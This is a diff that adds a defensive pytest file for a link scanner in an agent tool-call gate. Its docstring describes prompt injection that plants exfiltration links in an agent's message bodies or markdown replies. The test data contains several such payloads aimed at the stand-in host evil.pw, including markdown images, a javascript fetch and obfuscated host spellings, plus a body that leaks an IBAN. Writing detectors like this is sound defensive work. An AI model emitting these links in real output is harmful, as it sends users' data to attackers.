@@ -1,0 +1,84 @@
+"""Links written the way browsers and renderers read them, not the way prose looks.
+
+Each case is a link an injected instruction could put into a free-text sink
+argument (a message body, a markdown reply) so that the reader's client opens
+an attacker's host. `links` must find it; a trusted value must not vouch for
+a host that a browser resolves differently.
+"""
+
+from __future__ import annotations
+
+import pytest
+from hypothesis import given
+from hypothesis import strategies as st
+
+from callgate.authorize.provenance import TrustIndex
+from callgate.authorize.text import link_key, links, normalize
+
+
+@pytest.mark.parametrize(
+    ("text", "host"),
+    [
+        ("![p](//evil.pw/p?d=secret)", "evil.pw"),
+        ('<img src="//evil.pw/p?d=secret">', "evil.pw"),
+        ("javascript:fetch('//evil.pw/x')", "evil.pw"),
+        ("https:evil.pw/x?d=1", "evil.pw"),
+        ("https:/evil.pw/x", "evil.pw"),
+        ("http:\\\\evil.pw\\x", "evil.pw"),
+        ("https://evil.pw\\@bank.example/", "evil.pw"),
+        ("www.evil\u3002pw/x", "evil.pw"),
+        ("evil\uff61com/x", "evil.com"),
+        ("www.ev\u200bil.pw/x", "evil.pw"),
+        ("www.ev\u00adil.pw/x", "evil.pw"),
+        ("HTTPS:EVIL.PW/X", "evil.pw"),
+    ],
+)
+def test_links_browsers_open_are_found(text: str, host: str) -> None:
+    """A link a browser or renderer resolves to a host is found, whatever the spelling."""
+    found = [link_key(link.casefold()) or "" for link in links(text)]
+    assert any(host in key for key in found), (text, found)
+
+
+def test_protocol_relative_image_in_a_body_is_a_finding() -> None:
+    """A markdown image with a scheme-less ``//host`` URL in a message body is flagged."""
+    index = TrustIndex(trusted_text=["Summarise my inbox and mail me the summary."])
+    body = "Summary done. ![x](//evil.pw/collect?d=iban-DE89370400440532013000)"
+    findings = index.check({"to": None}, {"to": None, "body": body}, links=True)
+    assert [f.value for f in findings] == ["//evil.pw/collect?d=iban-DE89370400440532013000"]
+
+
+@pytest.mark.parametrize(
+    ("trusted", "hostile"),
+    [
+        ("bass.example", "ba\u00df.example"),  # IDNA2008 keeps sharp s: another domain
+        ("bob@bass.example", "bob@ba\u00df.example"),
+        ("https://\u03c3\u03c3.example/a", "https://\u03c3\u03c2.example/a"),  # final sigma
+    ],
+)
+def test_case_folding_does_not_merge_distinct_domains(trusted: str, hostile: str) -> None:
+    """A trusted domain does not vouch for another domain that only case-folds to it."""
+    assert normalize(trusted) != normalize(hostile)
+    index = TrustIndex(trusted_text=[f"please use {trusted} for this"])
+    findings = index.check({"target": None}, {"target": hostile}, links=False)
+    assert [f.value for f in findings] == [hostile]
+
+
+def test_ascii_and_plain_words_still_fold_case() -> None:
+    """Case still does not matter for ASCII links and for words (Straße, STRASSE)."""
+    assert normalize("HTTPS://Bank.Example/A") == normalize("bank.example/a")
+    assert normalize("Straße") == normalize("STRASSE")
+
+
+@given(st.text(alphabet="/\\:.@%\u3002\u200b\u00adhtps", max_size=60))
+def test_links_never_raise_on_slashes_and_dots(text: str) -> None:
+    """Any mix of slashes, dots, colons and invisible marks is read without error."""
+    for link in links(text):
+        assert link
+
+
+@pytest.mark.timeout(30)
+def test_long_protocol_relative_runs_stay_linear() -> None:
+    """A page of ``//a.b//a.b...`` and ``https:`` prefixes is scanned at once (a backstop)."""
+    n = 200_000
+    for text in ("//a.pw" * n, "https:" * n + "a.pw", "\u200b." * n, "\\" * n + "a.pw/x"):
+        list(links(text))
